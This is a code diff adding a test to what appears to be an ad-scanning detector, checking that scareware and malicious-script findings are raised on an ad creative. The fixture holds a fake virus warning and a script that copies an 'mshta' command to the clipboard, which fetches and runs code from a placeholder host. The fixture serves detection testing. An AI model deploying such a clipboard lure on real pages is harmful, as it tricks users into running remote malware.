@@ -6,10 +6,11 @@ import { classify } from '../../../src/analysis/classification/classify.ts';
 import { creativeEmpty, creativeInteractive } from '../../../src/analysis/detectors/behaviors/creatives.ts';
 import { autoRedirect } from '../../../src/analysis/detectors/behaviors/navigation.ts';
 import { detect } from '../../../src/analysis/detectors/detect.ts';
-import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
+import { NO_EVIDENCE, withoutFirstDomains } from '../../../src/analysis/evidence/evidence.ts';
 import { pictureName } from '../../../src/crawling/captures/find-artifact.ts';
 import { evidenceOf } from '../../../src/crawling/captures/present-evidence.ts';
 import { adBlocks } from '../../support/ad-blocks.ts';
+import { captureOf } from '../../support/running-farm.ts';
 
 const CREATIVE: CapturedCreative = {
   url: 'https://ads.example/frame',
@@ -93,6 +94,21 @@ describe('what is found on a creative', () => {
       found.filter((one) => one.endsWith(' page')),
       [],
     );
+  });
+
+  test('what the HTML of an ad tag says and runs is found on the creative, unless its domain is skipped', () => {
+    const creativeHtml =
+      '<div><b>Windows</b> Defender</div><p>Your computer is\n<i>infected</i> with 5 viruses.</p><p>Do not restart it.</p>' +
+      `<script>navigator.clipboard.writeText('mshta https://x.example/a')</script>`;
+    const evidence = { ...NO_EVIDENCE, creative: CREATIVE, creativeHtml };
+    const found = (one: typeof evidence) =>
+      detect(one).findings.map(({ tag_slug, surface }) => `${tag_slug} ${surface}`);
+    assert.deepEqual(found(evidence), ['scareware creative', 'malicious_script creative']);
+    assert.match(detect(evidence).findings[0]!.detail, /"your computer is infected with 5 viruses\."/);
+    const { landings } = captureOf([CREATIVE.url, 'https://shop.example/']);
+    assert.deepEqual(found(withoutFirstDomains({ ...evidence, landings }, 1) as typeof evidence), []);
+    const harmless = '<p>Is your computer infected?</p><a href="https://shop.example/">Scan now</a>';
+    assert.deepEqual(found({ ...evidence, creativeHtml: harmless }), []);
   });
 
   test('an ad tag that renders nothing is a finding', () => {
